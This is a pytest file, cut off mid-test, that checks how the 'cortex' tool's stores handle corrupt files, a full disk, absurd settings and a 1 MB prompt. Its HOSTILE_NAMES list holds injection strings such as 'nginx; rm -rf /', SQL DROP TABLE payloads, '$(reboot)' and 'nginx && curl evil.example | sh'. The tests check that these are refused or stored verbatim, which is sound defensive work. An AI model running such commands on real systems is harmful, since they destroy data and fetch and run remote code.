"""Bad input: every store meets corrupt, empty, truncated and non-UTF-8 files, and more.

Each case must end in a clear error that names the file, with the file's bytes unchanged
(sha256 before and after), or be handled as the store documents it:

* the seven SQLite stores raise :class:`~cortex.utils.db_pool.DatabaseFileError` naming
  the file and leave it untouched; an empty file is an empty SQLite database (SQLite's own
  rule) and is used as one;
* the hardware cache is unusable, reported and rewritten (it is a cache);
* ``preferences.yaml`` raises :class:`~cortex.utils.decode.CorruptFileError` naming
  the file (an empty file is no preferences);
* the notification files fall back (defaults, the in-memory history), are reported once
  and are not overwritten;
* ``search_logs`` skips the malformed lines of a log and finds every good entry.

Then: a home that cannot be created, a full disk (SQLite's own ``SQLITE_FULL`` through
``PRAGMA max_page_count``, and ``ENOSPC`` from ``fsync`` in the atomic writes), absurd
``CORTEX_*`` values through ``python -m cortex doctor``, package names carrying SQL or shell
syntax, and a 1 MB prompt. Every case is counted in the ledger's ``bad input`` row, with
the bytes it changed of a file it must not change counted as ``data_lost``.
"""

from __future__ import annotations

import contextlib
import errno
import hashlib
import json
import logging
import os
import re
import secrets
import sqlite3
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from datetime import datetime
from pathlib import Path

import pytest

from cortex.config_manager import ConfigManager
from cortex.context_memory import ContextMemory, MemoryEntry
from cortex.demos.ledger import LEDGER
from cortex.dependency_resolver import generate_index_text, is_valid_package_name, parse_packages
from cortex.graceful_degradation import ResponseCache
from cortex.hardware_detection import HardwareDetector, SystemInfo
from cortex.installation_history import InstallationHistory, InstallationType
from cortex.kernel_features.accelerator_limits import LimitsDatabase, ResourceLimits
from cortex.kernel_features.kv_cache_manager import CacheConfig, CacheDatabase
from cortex.llm_router import LLMRouter
from cortex.logging_system import CortexLogger
from cortex.notification_manager import NotificationManager
from cortex.runtime import SETTINGS
from cortex.semantic_cache import SemanticCache
from cortex.transaction_history import TransactionHistory, TransactionType
from cortex.utils.db_pool import (
    DatabaseFileError,
    DatabaseFullError,
    PooledConnection,
    close_all_pools,
    get_connection_pool,
)
from cortex.utils.locked_file import CorruptFileError, read_json
from cortex.utils.thread_utils import reset_singletons
from tests.support.fakes import StaticProbe

REPO = Path(__file__).resolve().parent.parent
AREA = "bad input"


def _noon() -> datetime:
    """A fixed daytime clock: the default do-not-disturb window (22:00-08:00) is never on."""
    return datetime(2026, 1, 15, 12, 0)


@pytest.fixture(autouse=True)
def _close_pools() -> Iterator[None]:
    yield
    close_all_pools()


def _sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


@contextlib.contextmanager
def _refused_untouched(path: Path, error: type[Exception]) -> Iterator[None]:
    """The block must raise ``error`` naming ``path`` and leave its bytes as they were."""
    before = _sha(path)
    with pytest.raises(error) as caught:
        yield
    after = _sha(path)
    LEDGER.add(AREA, bad_inputs=1, data_lost=int(before != after))
    assert str(path) in str(caught.value)
    assert after == before


# -- the seven SQLite stores ------------------------------------------------------------------


def _tx(path: Path, text: str) -> int:
    history = TransactionHistory(path, probe=StaticProbe())
    history.begin_transaction(TransactionType.INSTALL, ["nginx"], command=text)
    return len(history.get_recent(limit=100_000))


def _installs(path: Path, text: str) -> int:
    history = InstallationHistory(path, probe=StaticProbe())
    history.record_installation(InstallationType.INSTALL, ["nginx"], [text], datetime.now())
    return len(history.get_history(limit=100_000))


def _semantic(path: Path, text: str) -> int:
    cache = SemanticCache(str(path), max_entries=100_000)
    prompt = f"install nginx {len(text)} {text[:20]}"
    try:
        cache.put_commands(prompt, "offline", "m", "s", [text])
        return int(cache.get_commands(prompt, "offline", "m", "s") == [text])
    finally:
        cache.close()


def _memory(path: Path, text: str) -> int:
    memory = ContextMemory(str(path))
    memory.record_interaction(MemoryEntry(category="package", context="web", action=text))
    return int(memory.get_statistics()["total_entries"])


def _responses(path: Path, text: str) -> int:
    cache = ResponseCache(path)
    cache.put(f"query {len(text)} {text[:20]}", text)
    return int(cache.get_stats()["total_entries"])


def _kv(path: Path, text: str) -> int:
    database = CacheDatabase(db_path=path)
    database.save_pool(CacheConfig(name=f"pool-{len(text)}-{text[:8]}", size_bytes=4096), text)
    return len(database.list_pools())


def _limits(path: Path, text: str) -> int:
    database = LimitsDatabase(db_path=path)
    database.save(ResourceLimits.from_preset(f"job-{len(text)}-{text[:8]}", "inference"))
    return len(database.list_all())


SQLITE_STORES: dict[str, tuple[Callable[[Path, str], int], str]] = {
    "transaction_history": (_tx, "transactions"),
    "installation_history": (_installs, "installations"),
    "semantic_cache": (_semantic, "llm_cache_entries"),
    "context_memory": (_memory, "memory_entries"),
    "response_cache": (_responses, "response_cache"),
    "kv_cache": (_kv, "pools"),
    "accelerator_limits": (_limits, "profiles"),
}
"""Each store: (open it at a path, write one record carrying ``text``, return a count) and
the table that record goes to."""


def _good_database(tmp_path: Path, store: str) -> bytes:
    """The bytes of a database the store made itself, closed (its WAL checkpointed)."""
    path = tmp_path / f"good-{store}.db"
    SQLITE_STORES[store][0](path, "seed")
    get_connection_pool(path).close()  # this file's pool only: tests may run in threads
    return path.read_bytes()


def _bad_bytes(kind: str, good: Callable[[], bytes]) -> bytes:
    if kind == "corrupt":
        return b"this is not a database, only text\n" * 200
    if kind == "non-utf8":
        return bytes(range(256)) * 16
    if kind == "truncated":
        raw = good()
        return raw[: len(raw) // 2]
    if kind == "header-only":
        return good()[:100]  # the SQLite header and nothing else
    raise AssertionError(kind)


@pytest.mark.thread_unsafe(
    reason="the copies share one tmp_path: one rewriting the bad file truncates it while "
    "another opens it, and an empty file is a valid empty database"
)
@pytest.mark.parametrize("kind", ["corrupt", "non-utf8", "truncated", "header-only"])
@pytest.mark.parametrize("store", sorted(SQLITE_STORES))
def test_a_bad_database_file_is_refused_by_name_and_left_untouched(
    tmp_path: Path, store: str, kind: str
) -> None:
    use, _table = SQLITE_STORES[store]
    path = tmp_path / f"{store}.db"
    path.write_bytes(_bad_bytes(kind, lambda: _good_database(tmp_path, store)))
    with _refused_untouched(path, DatabaseFileError):
        use(path, "a record")


@pytest.mark.parametrize("store", sorted(SQLITE_STORES))
def test_an_empty_database_file_is_an_empty_database(tmp_path: Path, store: str) -> None:
    use, table = SQLITE_STORES[store]
    path = tmp_path / f"{store}.db"
    path.write_bytes(b"")
    LEDGER.add(AREA, bad_inputs=1)
    assert use(path, "a record") >= 1
    conn = sqlite3.connect(path)
    try:
        assert conn.execute("PRAGMA integrity_check").fetchone() == ("ok",)
        assert conn.execute(f"SELECT count(*) FROM {table}").fetchone()[0] >= 1
    finally:
        conn.close()


# -- JSON and YAML files ----------------------------------------------------------------------

PREFERENCES = b"theme: dark\nname: 'a quoted value that goes on'\nlist:\n  - a\n  - b\n"


def _bad_text(kind: str, good: bytes) -> bytes:
    if kind == "corrupt":
        return b'{"a": [1, 2,,, }\nnot: [valid\n'
    if kind == "empty":
        return b""
    if kind == "truncated":
        cut = good.index(b"quoted") + 3  # inside a quoted value: the document is unfinished
        return good[:cut]
    if kind == "non-utf8":
        return b'{"theme": "caf\xe9 \xff\xfe"}\n'
    raise AssertionError(kind)


KINDS = ["corrupt", "empty", "truncated", "non-utf8"]


@pytest.mark.parametrize("kind", KINDS)
def test_bad_preferences_are_refused_by_name_and_left_untouched(tmp_path: Path, kind: str) -> None:
    manager = ConfigManager(config_dir=tmp_path)
    path = manager.preferences_file
    path.write_bytes(_bad_text(kind, PREFERENCES))
    if kind == "empty":  # documented: an empty file is no preferences
        LEDGER.add(AREA, bad_inputs=1)
        assert manager.load_preferences() == {}
        manager.set_preference("theme", "dark")
        assert manager.load_preferences() == {"theme": "dark"}
        return
    with _refused_untouched(path, CorruptFileError):
        manager.load_preferences()
    with _refused_untouched(path, CorruptFileError):
        manager.set_preference("theme", "light")  # must not overwrite what it cannot read


def _detector(path: Path) -> HardwareDetector:
    detector = HardwareDetector(cache_path=path)
    detector._detect_uncached = lambda: SystemInfo(hostname="fresh")  # type: ignore[method-assign]
    return detector


@pytest.mark.parametrize("kind", KINDS)
def test_a_bad_hardware_cache_is_reported_and_rewritten(
    tmp_path: Path, kind: str, caplog: pytest.LogCaptureFixture
) -> None:
    path = tmp_path / "hardware_cache.json"
    _detector(path).detect()
    path.write_bytes(_bad_text(kind, path.read_bytes().replace(b'"fresh"', b'"quoted"')))
    LEDGER.add(AREA, bad_inputs=1)
    with caplog.at_level(logging.WARNING, logger="cortex.hardware_detection"):
        info = _detector(path).detect()
    assert info.hostname == "fresh"  # detected again
    assert str(path) in caplog.text  # and reported by name
    assert read_json(path, default={})  # the cache was rewritten whole
    assert _detector(path).detect().hostname == "fresh"


NOTIFICATIONS = json.dumps([{"title": "t", "message": "old"}] * 3).encode()


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("name", ["notification_history.json", "notification_config.json"])
def test_bad_notification_files_fall_back_and_are_kept(
    tmp_path: Path, kind: str, name: str, caplog: pytest.LogCaptureFixture
) -> None:
    path = tmp_path / name
    path.write_bytes(_bad_text(kind, NOTIFICATIONS.replace(b'"old"', b'"quoted old"')))
    before = _sha(path)
    with caplog.at_level(logging.WARNING, logger="cortex.notification_manager"):
        manager = NotificationManager(config_dir=tmp_path, notifier=lambda _argv: True, clock=_noon)
        assert manager.send("title", "message") is True  # defaults: enabled, no DND
        history = manager.get_history()
    LEDGER.add(AREA, bad_inputs=1, data_lost=int(_sha(path) != before))
    assert history[-1]["message"] == "message"  # falls back to this process's history
    assert str(path) in caplog.text
    assert _sha(path) == before  # never overwritten


def _logger_name() -> str:
    """A logger name of this test's own: ``logging.getLogger`` names are process-wide."""
    return f"bad-input-{secrets.token_hex(4)}"


def test_search_logs_skips_malformed_lines_and_keeps_every_good_entry(tmp_path: Path) -> None:
    name = _logger_name()
    logger = CortexLogger(name=name, log_dir=tmp_path, console_level="CRITICAL")
    try:
        for n in range(3):
            logger.info(f"needle {n}")
    finally:
        logger.close()
    path = tmp_path / f"{name}.json.log"
    good = path.read_bytes()
    first_line = good.splitlines(keepends=True)[0]
    bad_lines = [
        b"not json at all\n",
        b"\xff\xfe\xfd non-UTF-8 \xe9\n",
        b"[1, 2, 3]\n",
        b'{"timestamp": "not a time", "level": "INFO", "message": "needle bad"}\n',
        b"\n",
        first_line[: len(first_line) // 2],  # truncated: the file ends inside an entry
    ]
    path.write_bytes(b"".join(bad_lines[:2]) + good + b"".join(bad_lines[2:]))
    before = _sha(path)
    logger = CortexLogger(name=name, log_dir=tmp_path, console_level="CRITICAL")
    try:
        found = [entry["message"] for entry in logger.search_logs("needle")]
    finally:
        logger.close()
    LEDGER.add(AREA, bad_inputs=len(bad_lines) + 1, data_lost=int(_sha(path) != before))
    assert found == ["needle 0", "needle 1", "needle 2"]
    assert "needle bad" not in found
    assert _sha(path) == before


def test_an_empty_log_has_no_entries(tmp_path: Path) -> None:
    name = _logger_name()
    (tmp_path / f"{name}.json.log").write_bytes(b"")
    logger = CortexLogger(name=name, log_dir=tmp_path, console_level="CRITICAL")
    try:
        LEDGER.add(AREA, bad_inputs=1)
        assert logger.search_logs("anything") == []
    finally:
        logger.close()


# -- a home that cannot be created ------------------------------------------------------------

HOME_STORES: dict[str, Callable[[], object]] = {
    "transaction_history": lambda: TransactionHistory(probe=StaticProbe()),
    "installation_history": lambda: InstallationHistory("~/.cortex/history.db", StaticProbe()),
    "semantic_cache": lambda: SemanticCache("~/.cortex/cache.db"),
    "context_memory": ContextMemory,
    "response_cache": ResponseCache,
    "kv_cache": CacheDatabase,
    "accelerator_limits": LimitsDatabase,
    "config_manager": ConfigManager,
    "notification_manager": lambda: NotificationManager(notifier=lambda _argv: True, clock=_noon),
    "logging_system": lambda: CortexLogger(console_level="CRITICAL"),
}


@pytest.mark.thread_unsafe(reason="points HOME, which is process-wide, at an impossible path")
@pytest.mark.parametrize("store", sorted(HOME_STORES))
def test_a_home_under_a_regular_file_gives_an_error_naming_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, store: str
) -> None:
    blocker = tmp_path / "a-file"
    blocker.write_text("not a directory\n")
    home = blocker / "home"
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.delenv("CORTEX_DATA_DIR")  # the stores' defaults, under this home
    LEDGER.add(AREA, bad_inputs=1, data_lost=int(blocker.read_text() != "not a directory\n"))
    # NotADirectoryError or DatabaseFileError, naming the directory it could not create.
    with pytest.raises((OSError, sqlite3.DatabaseError), match=re.escape(str(home / ".cortex"))):
        HOME_STORES[store]()
    assert blocker.read_text() == "not a directory\n"


@pytest.mark.thread_unsafe(reason="points HOME, which is process-wide, at an impossible path")
def test_the_hardware_cache_degrades_to_no_cache_in_an_impossible_home(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    blocker = tmp_path / "a-file"
    blocker.write_text("x")
    monkeypatch.setenv("HOME", str(blocker / "home"))
    LEDGER.add(AREA, bad_inputs=1)
    with caplog.at_level(logging.WARNING, logger="cortex.hardware_detection"):
        detector = HardwareDetector()
        detector._detect_uncached = lambda: SystemInfo(hostname="x")  # type: ignore[method-assign]
        assert detector.detect().hostname == "x"  # documented: works without its cache
    assert str(blocker / "home" / ".cortex") in caplog.text


# -- a full disk ------------------------------------------------------------------------------


def _fill_the_disk(path: Path) -> None:
    """Let the database grow no more: SQLite then fails writes with SQLITE_FULL.

    ``max_page_count`` is per connection: it is set on every connection the file's pool
    can hold (checked out all at once, so each is opened and reached). The pool is pinned
    by :func:`get_connection_pool`, so the stores opened next use these connections.
    """
    pool = get_connection_pool(path)
    with contextlib.ExitStack() as stack:
        for _ in range(pool.pool_size):
            conn = stack.enter_context(pool.get_connection())
            conn.execute("PRAGMA max_page_count = 1")  # raised to the current page count


@pytest.mark.parametrize("store", sorted(SQLITE_STORES))
def test_a_full_disk_loses_nothing_already_stored(tmp_path: Path, store: str) -> None:
    use, table = SQLITE_STORES[store]
    path = tmp_path / f"{store}.db"
    use(path, "kept")
    _fill_the_disk(path)
    error: sqlite3.Error | None = None
    try:
        for n in range(50):
            use(path, f"{n:04d}" + "x" * 8000)  # each record needs new pages
    except sqlite3.Error as exc:
        error = exc
    conn = sqlite3.connect(path)
    try:
        assert conn.execute("PRAGMA integrity_check").fetchone() == ("ok",)
        rows = conn.execute(f"SELECT count(*) FROM {table}").fetchone()[0]
    finally:
        conn.close()
    LEDGER.add(AREA, bad_inputs=1, data_lost=int(rows < 1))
    assert rows >= 1  # the record written before the disk filled is still there
    assert error is not None  # not vacuous: the disk did fill
    assert "database or disk is full" in str(error)  # SQLite's words, kept in the message


def test_a_full_database_error_names_the_file(tmp_path: Path) -> None:
    path = tmp_path / "transactions.db"
    _tx(path, "kept")
    _fill_the_disk(path)

    def fill() -> None:
        for n in range(50):
            _tx(path, f"{n:04d}" + "x" * 8000)

    with pytest.raises(sqlite3.OperationalError, match=re.escape(str(path))) as caught:
        fill()
    assert isinstance(caught.value, DatabaseFullError)
    assert "database or disk is full" in str(caught.value.__cause__)


@pytest.mark.thread_unsafe(reason="replaces PooledConnection.commit, shared by every pool")
def test_a_full_disk_at_commit_names_the_file_and_keeps_nothing(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "transactions.db"
    _tx(path, "kept")

    def full(_self: PooledConnection) -> None:
        raise sqlite3.OperationalError("database or disk is full")

    monkeypatch.setattr(PooledConnection, "commit", full)
    with pytest.raises(DatabaseFullError, match=re.escape(str(path))) as caught:
        _tx(path, "rolled back")
    monkeypatch.undo()
    assert isinstance(caught.value.__cause__, sqlite3.OperationalError)
    kept = _tx(path, "after")
    LEDGER.add(AREA, bad_inputs=1, data_lost=int(kept < 2))
    assert kept == 2  # "kept" and "after": the failed commit was rolled back, the pool works


def _no_space(_fd: int) -> None:
    raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))


@pytest.mark.thread_unsafe(reason="replaces os.fsync, which is process-wide")
def test_a_full_disk_leaves_the_old_preferences_intact(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    manager = ConfigManager(config_dir=tmp_path)
    manager.set_preference("theme", "dark")
    before = _sha(manager.preferences_file)
    monkeypatch.setattr(os, "fsync", _no_space)  # what atomic_write_bytes calls
    with pytest.raises(OSError, match="No space left on device") as caught:
        manager.set_preference("theme", "light")
    monkeypatch.undo()
    LEDGER.add(AREA, bad_inputs=1, data_lost=int(_sha(manager.preferences_file) != before))
    assert caught.value.errno == errno.ENOSPC
    assert _sha(manager.preferences_file) == before
    assert manager.load_preferences() == {"theme": "dark"}
    assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".tmp")] == []


@pytest.mark.thread_unsafe(reason="replaces os.fsync, which is process-wide")
def test_a_full_disk_keeps_the_notification_history_and_hardware_cache(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    manager = NotificationManager(config_dir=tmp_path, notifier=lambda _argv: True, clock=_noon)
    manager.send("title", "first")
    cache = tmp_path / "hardware_cache.json"
    _detector(cache).detect()
    before = {p: _sha(p) for p in (manager.history_file, cache)}
    monkeypatch.setattr(os, "fsync", _no_space)  # what atomic_write_bytes calls
    with caplog.at_level(logging.WARNING):
        manager.send("title", "second")  # documented: recorded in memory, reported
        _detector(cache).detect(force_refresh=True)  # documented: works without its cache
    monkeypatch.undo()
    after = {p: _sha(p) for p in before}
    LEDGER.add(AREA, bad_inputs=2, data_lost=sum(before[p] != after[p] for p in before))
    assert after == before
    assert [m["message"] for m in manager.snapshot()] == ["first", "second"]
    assert str(cache) in caplog.text
    assert "No space left on device" in caplog.text
    assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".tmp")] == []


@pytest.mark.thread_unsafe(reason="replaces os.fsync, which is process-wide")
def test_a_full_disk_error_names_the_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    config = ConfigManager(config_dir=tmp_path)
    notifications = NotificationManager(
        config_dir=tmp_path, notifier=lambda _argv: True, clock=_noon
    )
    monkeypatch.setattr(os, "fsync", _no_space)  # what atomic_write_bytes calls
    with caplog.at_level(logging.WARNING, logger="cortex.notification_manager"):
        notifications.send("title", "message")
    with pytest.raises(OSError, match="No space left on device") as caught:
        config.set_preference("theme", "dark")
    monkeypatch.undo()
    assert str(notifications.history_file) in caplog.text
    assert str(config.preferences_file) in str(caught.value)


# -- absurd settings --------------------------------------------------------------------------

ABSURD = ["-1", "1e309", "nan", "", "10000000000"]


def _doctor(variable: str, value: str) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("CORTEX_")}
    env[variable] = value
    return subprocess.run(
        [sys.executable, "-m", "cortex", "doctor"],
        capture_output=True,
        text=True,
        cwd=REPO,
        env=env,
        timeout=60,
        check=False,
    )


def _check_refusal(variable: str, value: str, status: int, stdout: str, stderr: str) -> None:
    """Exit status 2, one line on stderr naming the variable and value, no traceback."""
    assert "Traceback" not in stderr, (variable, value, stderr)
    if value == "" and variable in BOOLEANS:
        # cortex.runtime reads an empty boolean as off, the same as unset (see the report).
        assert status == 0, (variable, stderr)
        assert variable in stdout
        return
    assert status == 2, (variable, value, stdout, stderr)
    lines = stderr.strip().splitlines()
    assert len(lines) == 1, (variable, value, lines)
    assert f"{variable}={value!r}" in lines[0]
    assert stdout == ""


BOOLEANS = {spec.env_var for spec in SETTINGS if isinstance(spec.default, bool)}
CASES = [(spec.env_var, value) for spec in SETTINGS for value in ABSURD]


def test_python_m_cortex_doctor_refuses_absurd_settings_in_one_line() -> None:
    # One process per variable (about 0.3 s each), the values taken in turn so that each
    # absurd value is tried in a real process; the next test tries every pair in-process.
    cases = [(spec.env_var, ABSURD[(n + 1) % len(ABSURD)]) for n, spec in enumerate(SETTINGS)]
    assert {value for _v, value in cases} == set(ABSURD)
    with ThreadPoolExecutor(max_workers=2) as pool:
        results = list(pool.map(lambda case: _doctor(*case), cases))
    LEDGER.add(AREA, bad_inputs=len(cases), processes=len(cases))
    for (variable, value), result in zip(cases, results, strict=True):
        _check_refusal(variable, value, result.returncode, result.stdout, result.stderr)


@pytest.mark.thread_unsafe(reason="sets CORTEX_* variables, which are process-wide")
@pytest.mark.parametrize(("variable", "value"), CASES)
def test_every_setting_refuses_every_absurd_value(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], variable: str, value: str
) -> None:
    from cortex.cli import main

    monkeypatch.setenv(variable, value)
    status = main(["doctor"])
    captured = capsys.readouterr()
    LEDGER.add(AREA, bad_inputs=1)
    _check_refusal(variable, value, status, captured.out, captured.err)


# -- package names carrying SQL or shell syntax -----------------------------------------------

HOSTILE_NAMES = [
    "nginx; rm -rf /",
    "x'); DROP TABLE installations;--",
    "x'); DROP TABLE transactions;--",
    '"; DELETE FROM llm_cache_entries; --',
    "$(reboot)",
    "`reboot`",
    "../etc/passwd",
    "nginx && curl evil.example | sh",
    "name\x00with-nul",
    "emoji-\U0001f4a5-and-\u202e-bidi",
]


def _tables(path: Path) -> dict[str, int]:
    conn = sqlite3.connect(path)
    try:
        names = [r[0] for r in conn.execute("SELECT name FROM sqlite_master WHERE type='table'")]
        return {
            name: conn.execute(f'SELECT count(*) FROM "{name}"').fetchone()[0] for name in names
        }
    finally:
        conn.close()


def test_hostile_names_are_refused_as_package_names() -> None:
    LEDGER.add(AREA, bad_inputs=len(HOSTILE_NAMES))
    assert [name for name in HOSTILE_NAMES if is_valid_package_name(name)] == []
    assert is_valid_package_name("nginx")


def test_hostile_names_are_stored_verbatim_in_the_installation_history(tmp_path: Path) -> None:
    path = tmp_path / "history.db"
    history = InstallationHistory(path, probe=StaticProbe())
    ids = {
        name: history.record_installation(
            InstallationType.INSTALL, [name], [f"apt-get install {name}"], datetime.now()
        )
        for name in HOSTILE_NAMES
    }
    lost = 0
    for name, install_id in ids.items():
        record = history.get_installation(install_id)
        lost += record is None or record.packages != [name]
        assert record is not None
        assert record.packages == [name]
        assert record.commands_executed == [f"apt-get install {name}"]
    LEDGER.add(AREA, bad_inputs=len(HOSTILE_NAMES), data_lost=lost)
    assert _tables(path)["installations"] == len(HOSTILE_NAMES)


def test_hostile_names_are_refused_by_the_transaction_history_and_commands_kept(
    tmp_path: Path,
) -> None:
    path = tmp_path / "transactions.db"
    history = TransactionHistory(path, probe=StaticProbe())
    for name in HOSTILE_NAMES:
        with pytest.raises(ValueError, match="not valid package names"):
            history.begin_transaction(TransactionType.INSTALL, [name])
    # The command line is free text: stored and read back exactly.
    stored = {
        history.begin_transaction(TransactionType.INSTALL, ["nginx"], command=name).id: name
        for name in HOSTILE_NAMES
    }
    found = {tx_id: history.get_transaction(tx_id) for tx_id in stored}
    lost = sum(tx is None or tx.command != stored[tx_id] for tx_id, tx in found.items())
    LEDGER.add(AREA, bad_inputs=2 * len(HOSTILE_NAMES), data_lost=lost)
    assert lost == 0
    assert _tables(path)["transactions"] == len(HOSTILE_NAMES)


def test_hostile_text_round_trips_through_the_semantic_cache_and_context_memory(
    tmp_path: Path,
) -> None:
    cache = SemanticCache(str(tmp_path / "cache.db"), max_entries=1000)
    memory = ContextMemory(str(tmp_path / "memory.db"))
    lost = 0
    try:
        for name in HOSTILE_NAMES:
            cache.put_commands(name, "offline", name, name, [name, f"apt-get install {name}"])
            lost += cache.get_commands(name, "offline", name, name) != [
                name,
                f"apt-get install {name}",
            ]
            memory.record_interaction(MemoryEntry(category=name, context=name, action=name))
            memory.set_preference(name, name, category=name)
            lost += memory.get_preference(name) != name
    finally:
        cache.close()
    stats = memory.get_statistics()
    LEDGER.add(AREA, bad_inputs=3 * len(HOSTILE_NAMES), data_lost=lost)
    assert lost == 0
    assert stats["total_entries"] == len(HOSTILE_NAMES)
    assert _tables(tmp_path / "cache.db")["llm_cache_entries"] == len(HOSTILE_NAMES)
    assert _tables(tmp_path / "memory.db")["memory_entries"] == len(HOSTILE_NAMES)


# -- a 1 MB prompt ----------------------------------------------------------------------------

BIG_PROMPT = "install nginx and postgresql " + "x" * (1 << 20)


def test_a_1mb_prompt_round_trips_through_the_semantic_cache(tmp_path: Path) -> None:
    cache = SemanticCache(str(tmp_path / "cache.db"))
    try:
        assert cache.get_commands(BIG_PROMPT, "offline", "m", "s") is None
        cache.put_commands(BIG_PROMPT, "offline", "m", "s", ["apt-get install nginx"])
        found = cache.get_commands(BIG_PROMPT, "offline", "m", "s")
    finally:
        cache.close()
    LEDGER.add(AREA, bad_inputs=1, data_lost=int(found != ["apt-get install nginx"]))
    assert found == ["apt-get install nginx"]


def test_a_1mb_prompt_is_answered_by_the_offline_provider() -> None:
    router = LLMRouter(
        environ={}, index=parse_packages(generate_index_text(300)), offline_latency=0
    )
    response = router.complete([{"role": "user", "content": BIG_PROMPT}])
    LEDGER.add(AREA, bad_inputs=1)
    assert "nginx" in response.content
    assert response.provider.value == "offline"


# -- hostile small files: deep nesting, over-long integers, wrong types -----------------------
#
# 200 KB of ``[`` makes the parsers raise RecursionError; a 5,000-digit integer exceeds the
# interpreter's int-from-string limit (ValueError); a valid document can still hold the wrong
# types. Every reader goes through cortex.utils.decode and must name the file, leave it
# untouched and keep working.

DEEP = b"[" * 200_000
"""200 KB of nesting: RecursionError in ``json.loads`` and in the YAML constructor."""
HUGE_INT = b"1" * 5_000
"""5,000 digits: over the default limit (4,300) for converting a string to an int."""


def _hostile_json(kind: str, wrong: bytes) -> bytes:
    if kind == "deep":
        return DEEP
    if kind == "deep-value":
        return b'{"a": ' + DEEP + b"}"
    if kind == "huge-int":
        return b'{"a": ' + HUGE_INT + b"}"
    if kind == "wrong-type":
        return wrong
    raise AssertionError(kind)


HOSTILE_JSON = ["deep", "deep-value", "huge-int", "wrong-type"]
NOON = _noon()


@pytest.mark.parametrize("kind", HOSTILE_JSON)
@pytest.mark.parametrize("name", ["notification_history.json", "notification_config.json"])
def test_hostile_notification_files_fall_back_and_are_kept(
    tmp_path: Path, kind: str, name: str, caplog: pytest.LogCaptureFixture
) -> None:
    path = tmp_path / name
    wrong = b'[1, "two"]' if name.startswith("notification_history") else b'{"enabled": "no"}'
    path.write_bytes(_hostile_json(kind, wrong))
    before = _sha(path)
    with caplog.at_level(logging.WARNING, logger="cortex.notification_manager"):
        manager = NotificationManager(config_dir=tmp_path, notifier=lambda _argv: True, clock=_noon)
        assert manager.send("title", "message") is True  # defaults: enabled, no DND
        history = manager.get_history()
    LEDGER.add(AREA, bad_inputs=1, data_lost=int(_sha(path) != before))
    assert history[-1]["message"] == "message"
    assert str(path) in caplog.text
    assert "Traceback" not in caplog.text
    assert _sha(path) == before


def _cache_with(section: str, key: str | None, value: object) -> bytes:
    """A fresh, well-formed hardware cache but for ``system_info[section][key] = value``."""
    info = SystemInfo(hostname="cached").to_dict()
    if key is None:
        info[section] = value
    else:
        info[section][key] = value
    return json.dumps({"format": 1, "written_at": time.time(), "system_info": info}).encode()


HOSTILE_CACHES: dict[str, bytes] = {
    **{kind: _hostile_json(kind, b"[]") for kind in ("deep", "deep-value", "huge-int")},
    "total_mb-lots": _cache_with("memory", "total_mb", "lots"),
    "total_mb-list": _cache_with("memory", "total_mb", [1]),
    "total_mb-bool": _cache_with("memory", "total_mb", True),
    "cpu-vendor-acme": _cache_with("cpu", "vendor", "acme"),
    "cpu-features-ints": _cache_with("cpu", "features", [1, 2]),
    "gpu-not-a-list": _cache_with("gpu", None, 3),
    "storage-item-a-string": _cache_with("storage", None, ["sda"]),
    "hostname-a-number": _cache_with("hostname", None, 7),
}


@pytest.mark.parametrize("kind", sorted(HOSTILE_CACHES))
def test_a_hostile_hardware_cache_is_refused_by_name_and_detected_again(
    tmp_path: Path, kind: str, caplog: pytest.LogCaptureFixture
) -> None:
    path = tmp_path / "hardware_cache.json"
    path.write_bytes(HOSTILE_CACHES[kind])
    LEDGER.add(AREA, bad_inputs=1)
    with caplog.at_level(logging.WARNING, logger="cortex.hardware_detection"):
        info = _detector(path).detect()
    assert info.hostname == "fresh"  # the cache was not served: detected again
    assert str(path) in caplog.text  # and reported by name
    assert info.memory.total_gb == 0.0  # the value get_ram_gb returns works
    assert _detector(path).detect().hostname == "fresh"  # rewritten whole, and served


@pytest.mark.thread_unsafe(reason="points the process-wide detector's cache at this test's file")
def test_get_ram_gb_works_after_a_cache_with_wrong_types(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    # Defect 7 through upstream's own entry point: memory.total_mb is "lots".
    from cortex import hardware_detection

    path = tmp_path / "hardware_cache.json"
    path.write_bytes(HOSTILE_CACHES["total_mb-lots"])
    monkeypatch.setattr(hardware_detection, "CACHE_PATH", path)
    reset_singletons()
    LEDGER.add(AREA, bad_inputs=1)
    try:
        with caplog.at_level(logging.WARNING, logger="cortex.hardware_detection"):
            ram = hardware_detection.get_ram_gb()
    finally:
        reset_singletons()
    assert isinstance(ram, float)
    assert str(path) in caplog.text


HOSTILE_YAML: dict[str, bytes] = {
    "huge-int": b"theme: " + HUGE_INT + b"\n",
    "deep": b"theme: " + b"[" * 200_000 + b"\n",
    "deep-block": b"".join(b"  " * n + b"- \n" for n in range(2000)),
    "contains-itself": b"theme: &a [*a]\n",
    "month-13": b"when: 2020-13-45\n",
    "unhashable-key": b"? [a, b]\n: c\n",
    "wrong-type": b"- a list\n- not a mapping\n",
}


@pytest.mark.parametrize("kind", sorted(HOSTILE_YAML))
def test_hostile_preferences_are_refused_by_name_and_left_untouched(
    tmp_path: Path, kind: str, caplog: pytest.LogCaptureFixture
) -> None:
    manager = ConfigManager(config_dir=tmp_path)
    path = manager.preferences_file
    path.write_bytes(HOSTILE_YAML[kind])
    with _refused_untouched(path, CorruptFileError):
        manager.load_preferences()
    with _refused_untouched(path, CorruptFileError):
